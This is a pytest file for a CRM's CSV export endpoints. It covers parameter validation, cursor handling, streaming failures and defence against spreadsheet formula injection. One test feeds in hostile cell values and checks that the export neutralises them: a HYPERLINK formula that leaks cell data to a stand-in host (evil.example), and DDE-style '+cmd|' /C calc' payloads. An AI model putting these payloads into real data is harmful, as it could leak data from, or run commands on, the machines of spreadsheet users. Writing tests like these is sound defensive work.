"""CSV exports: parameters checked before the first byte, a failure after it never looks like a complete file,
cells that never run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import socket
import uuid
from pathlib import Path

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine, create_async_engine

from app import migrate
from app.api.records import TRUNCATED
from tests.factories import PASSWORD, signup, unique_email
from tests.servers import crm_env, free_port, wait_http
from tests.test_server import running, serve_args
from tests.workers import eventually


def _rows(r: httpx.Response) -> list[dict[str, str]]:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.text)))


@pytest.mark.parametrize(("path", "params", "loc"), [
    ("/v1/contacts/export.csv", {"sort": "bogus"}, ["query", "sort"]),
    ("/v1/contacts/export.csv", {"cursor": "not-a-cursor"}, ["query", "cursor"]),
    ("/v1/contacts/export.csv", {"cf.nope": "1"}, ["query", "cf.nope"]),
    ("/v1/contacts/export.csv", {"cf.seats": "many"}, ["query", "cf.seats"]),
    ("/v1/deals/export.csv", {"sort": "-nothing"}, ["query", "sort"]),
    ("/v1/companies/export.csv", {"cursor": "W10"}, ["query", "cursor"]),
])
async def test_bad_parameters_are_a_422_before_any_csv(client, path, params, loc):
    acct = await signup(client)
    r = await client.post("/v1/custom-fields", headers=acct.headers,
                          json={"object": "contact", "key": "seats", "label": "Seats", "type": "number"})
    assert r.status_code == 201, r.text
    await client.post("/v1/contacts", headers=acct.headers, json={"first_name": "Ana"})
    r = await client.get(path, headers=acct.headers, params=params)
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert "id," not in r.text
    assert loc in [e["loc"] for e in r.json()["errors"]]


async def test_a_cursor_from_another_sort_is_a_422(client):
    acct = await signup(client)
    for name in ("A", "B"):
        await client.post("/v1/contacts", headers=acct.headers, json={"first_name": name})
    cursor = (await client.get("/v1/contacts", headers=acct.headers, params={"limit": 1})).json()["next_cursor"]
    r = await client.get("/v1/contacts/export.csv", headers=acct.headers, params={"cursor": cursor, "sort": "last_name"})
    assert r.status_code == 422 and r.json()["errors"][0]["loc"] == ["query", "cursor"]


async def test_the_export_starts_after_the_cursor_in_the_lists_sort(client):
    acct = await signup(client)
    for name in ("Cy", "Ada", "Dan", "Bea"):
        await client.post("/v1/contacts", headers=acct.headers, json={"last_name": name})
    page = (await client.get("/v1/contacts", headers=acct.headers, params={"limit": 1, "sort": "last_name"})).json()
    assert [c["last_name"] for c in page["data"]] == ["Ada"]
    rows = _rows(await client.get("/v1/contacts/export.csv", headers=acct.headers,
                                  params={"sort": "last_name", "cursor": page["next_cursor"]}))
    assert [row["last_name"] for row in rows] == ["Bea", "Cy", "Dan"]


async def test_cells_that_would_run_as_formulas_are_quoted(client):
    acct = await signup(client)
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    r = await client.post("/v1/contacts", headers=acct.headers, json={
        "first_name": hyperlink, "last_name": "-2+3+cmd|' /C calc'!A0", "title": "@SUM(1+1)",
        "phone": "+351 912 345 678", "tags": ["=1+1"]})
    assert r.status_code == 201, r.text
    form = (await client.post("/v1/forms", headers=acct.headers, json={"name": "Demo"})).json()
    r = await client.post(f"/v1/public/forms/{form['public_key']}/submissions", json={
        "first_name": "+cmd|' /C notepad'!A0", "last_name": "\tTabbed", "company_name": hyperlink,
        "email": "x@example.com"})
    assert r.status_code == 202, r.text

    (contact,) = _rows(await client.get("/v1/contacts/export.csv", headers=acct.headers))
    assert contact["first_name"] == "'" + hyperlink
    assert (contact["last_name"], contact["title"]) == ("'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)")
    assert contact["phone"] == "+351912345678"  # a number cannot hold a formula: left alone
    assert contact["tags"] == '["=1+1"]'  # JSON cells start with [ or {
    (lead,) = _rows(await client.get("/v1/leads/export.csv", headers=acct.headers))
    assert (lead["first_name"], lead["last_name"], lead["company_name"]) == \
        ("'+cmd|' /C notepad'!A0", "Tabbed", "'" + hyperlink)  # form values are trimmed, so no tab is left
    # What the API itself answers is unchanged: the prefix is for spreadsheets only.
    listed = (await client.get("/v1/contacts", headers=acct.headers)).json()["data"]
    assert listed[0]["first_name"] == hyperlink


async def test_report_csv_cells_are_quoted_too(client):
    acct = await signup(client)
    r = await client.post("/v1/pipelines", headers=acct.headers, json={"name": "Formulas", "stages": [
        {"name": "=1+2", "probability": 10}, {"name": "Won", "probability": 100, "kind": "won"},
        {"name": "Lost", "probability": 0, "kind": "lost"}]})
    assert r.status_code == 201, r.text
    r = await client.get("/v1/reports/funnel", headers=acct.headers,
                         params={"format": "csv", "pipeline_id": r.json()["id"]})
    assert [row["name"] for row in _rows(r)] == ["'=1+2", "Won", "Lost"]


# --- a failure after the first byte, through a real server ------------------------------------------------------

ROOT = Path(__file__).resolve().parents[1]
ROWS = 3000  # about 6 MB: more than the socket buffers hold while the client does not read


async def _export_cut_by_the_database(base: str, headers: dict[str, str], admin: AsyncEngine, database: str) -> bytes:
    """Start an export with a client that has a small receive buffer and stops reading after the first chunk:
    the server's stream then waits with its page's transaction open. Terminate that backend, read on: the
    response must end in a protocol error. -> the bytes received."""
    received = b""
    slow = httpx.AsyncHTTPTransport(socket_options=[(socket.SOL_SOCKET, socket.SO_RCVBUF, 16384)])
    async with httpx.AsyncClient(base_url=base, timeout=30, transport=slow) as http, \
            http.stream("GET", "/v1/companies/export.csv", headers=headers) as r:
        assert r.status_code == 200
        chunks = r.aiter_raw()
        received += await anext(chunks)

        async def stalled_export() -> list[int]:
            async with admin.connect() as conn:
                return list(await conn.scalars(text(
                    "SELECT pid FROM pg_stat_activity WHERE datname = :db AND state = 'idle in transaction'"),
                    {"db": database}))

        (pid,) = await eventually(stalled_export, within=30)
        async with admin.connect() as conn:
            assert await conn.scalar(text("SELECT pg_terminate_backend(:pid)"), {"pid": pid})
        with pytest.raises(httpx.RemoteProtocolError, match="incomplete chunked read"):
            async for chunk in chunks:
                received += chunk
    return received


async def test_a_failure_mid_stream_is_an_incomplete_response_not_a_short_file(pg, redis_server, tmp_path):
    name = f"export_{uuid.uuid4().hex[:12]}"
    url = pg.create_database(name)
    migrate.upgrade(url)
    admin = create_async_engine(url)
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    try:
        env = crm_env(url, redis_server.url, tmp_path, PYTHONPATH=str(ROOT))  # this tree's code, whatever is installed
        with running(serve_args(port), env, tmp_path) as proc:
            wait_http(f"{base}/healthz", proc)
            async with httpx.AsyncClient(base_url=base, timeout=30) as http:
                r = await http.post("/v1/auth/signup", json={"org_name": "Big", "email": unique_email("big"),
                                                             "password": PASSWORD, "name": "Bo"})
                assert r.status_code == 201, r.text
                me = r.json()
                headers = {"Authorization": f"Bearer {me['access_token']}", "Accept-Encoding": "identity"}
                async with admin.begin() as conn:
                    await conn.execute(text(
                        "INSERT INTO companies (org_id, id, owner_id, name, custom_fields, created_at, updated_at,"
                        " version) SELECT :org, gen_random_uuid(), :owner, 'Co ' || g,"
                        " jsonb_build_object('notes', repeat(md5(g::text), 64)), now(), now(), 1"
                        " FROM generate_series(1, :n) AS g"),
                        {"org": me["org"]["id"], "owner": me["user"]["id"], "n": ROWS})

                received = await _export_cut_by_the_database(base, headers, admin, name)
                # What a careless client kept is not a valid CSV file, and its last row says why.
                assert received.endswith(TRUNCATED)
                content = received.decode()
                with pytest.raises(csv.Error):
                    list(csv.reader(io.StringIO(content), strict=True))
                rows = list(csv.DictReader(io.StringIO(content)))
                assert 0 < len(rows) - 1 < ROWS and rows[-1]["id"].startswith("EXPORT FAILED")

                # The server goes on: the next export is complete and carries no marker.
                r = await http.get("/v1/companies/export.csv", headers=headers)
                rows = _rows(r)
                assert len(rows) == ROWS and len({row["id"] for row in rows}) == ROWS
                assert TRUNCATED not in r.content
    finally:
        await admin.dispose()
